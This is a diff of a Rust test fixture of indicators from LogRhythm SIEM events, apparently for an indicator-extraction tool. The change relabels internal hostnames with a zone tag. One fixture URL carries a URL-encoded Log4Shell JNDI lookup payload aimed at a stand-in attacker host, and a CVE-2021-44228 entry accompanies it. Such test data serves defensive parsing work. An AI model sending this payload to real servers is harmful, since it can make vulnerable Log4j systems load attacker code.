@@ -192,12 +192,13 @@ fn logrhythm_events_fixture() {
         // event 1: AIE event
         ("ip", "10.20.30.40", "impactedIP", "private ip"),
         ("ip", "203.0.113.45", "originIP", "documentation ip"),
-        ("domain", "web01.corp.example.com", "impactedHostName", "send"),
+        // Issue 10: the impacted side is in LogRhythm's Internal zone.
+        ("domain", "web01.corp.example.com", "impactedHostName", "logrhythm zone Internal"),
         ("vulnerability", "CVE-2021-44228", "cve", "send"),
         // event 2: firewall event (impactedIP null; host, domain and CVE repeat)
         ("ip", "2001:db8:85a3::8a2e:370:7334", "originIP", "documentation ip"),
         ("ip", "198.51.100.7", "impactedNATIP", "documentation ip"),
-        ("domain", "shop.example.org", "impactedName", "send"),
+        ("domain", "shop.example.org", "impactedName", "logrhythm zone Internal"),
         (
             "url",
             "https://shop.example.org/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.net%2Fa%7D&lang=en",
@@ -207,7 +208,7 @@ fn logrhythm_events_fixture() {
         // event 3: mail event
         ("ip", "192.168.10.15", "impactedIP", "private ip"),
         ("ip", "192.0.2.25", "originIP", "documentation ip"),
-        ("domain", "mail01.corp.example.com", "impactedHostName", "send"),
+        ("domain", "mail01.corp.example.com", "impactedHostName", "logrhythm zone Internal"),
         ("domain", "mx.invoices.example.net", "originHostName", "send"),
         ("domain", "invoices.example.net", "domain", "send"),
         ("url", "https://docs.example.net/view?id=4471&t=abc", "url", "send"),
